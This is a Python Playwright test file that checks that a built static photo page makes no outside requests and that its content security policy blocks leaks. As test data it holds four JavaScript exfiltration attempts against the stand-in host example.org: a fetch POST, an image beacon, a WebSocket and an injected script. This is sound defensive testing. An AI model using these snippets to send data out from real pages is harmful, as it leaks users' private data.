"""Nothing leaves the built site's page: it asks nobody for anything, and its policy would not let it."""

from __future__ import annotations

from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, Route

from builder.serve import SUB_PATH
from tests.visiting import (
    LOADED,
    answer,
)


def test_nothing_is_asked_of_anybody_else(http: str, context: BrowserContext, photos: list[Path]) -> None:
    page = context.new_page()
    asked: list[tuple[str, str, str | None]] = []
    page.on("request", lambda request: asked.append((request.method, request.url, request.post_data)))
    page.goto(f"{http}index.html")
    page.wait_for_selector(LOADED)
    before = len(asked)
    answer(page, photos[0].read_bytes())
    sent_for_the_photo = [url for _, url, _ in asked[before:] if not url.startswith("blob:")]
    assert sent_for_the_photo == []
    for method, url, body in asked:
        assert method == "GET" and body is None
        assert url.startswith((http, f"blob:{http.partition(SUB_PATH)[0]}")), url
        assert "?" not in url


@pytest.mark.parametrize(
    "attempt",
    [
        "fetch('https://example.org/', {method: 'POST', body: 'photo', mode: 'no-cors'})",
        "new Promise((done, fail) => { const i = new Image(); i.onload = done; i.onerror = fail; "
        "i.src = 'https://example.org/x.png?photo'; })",
        "new Promise((done, fail) => { const s = new WebSocket('wss://example.org'); "
        "s.onopen = done; s.onerror = fail; })",
        "new Promise((done, fail) => { const s = document.createElement('script'); s.onload = done; s.onerror = fail; "
        "s.src = 'https://example.org/x.js'; document.head.append(s); })",
    ],
    ids=["fetch", "image", "socket", "script"],
)
def test_the_policy_lets_nothing_out(http: str, context: BrowserContext, attempt: str) -> None:
    page = context.new_page()
    left: list[str] = []

    def note(route: Route) -> None:
        left.append(route.request.url)
        route.abort()

    page.route("**/*example.org/**", note)
    page.goto(f"{http}report.html")
    page.goto(f"{http}index.html")
    outcome = page.evaluate(
        f"""async () => {{
          const blocked = [];
          document.addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective));
          let wentOut = true;
          try {{ await ({attempt}); }} catch {{ wentOut = false; }}
          await new Promise((done) => setTimeout(done, 100));
          return {{ wentOut, blocked: blocked.length }};
        }}"""
    )
    assert outcome["wentOut"] is False and outcome["blocked"] > 0
    assert left == []
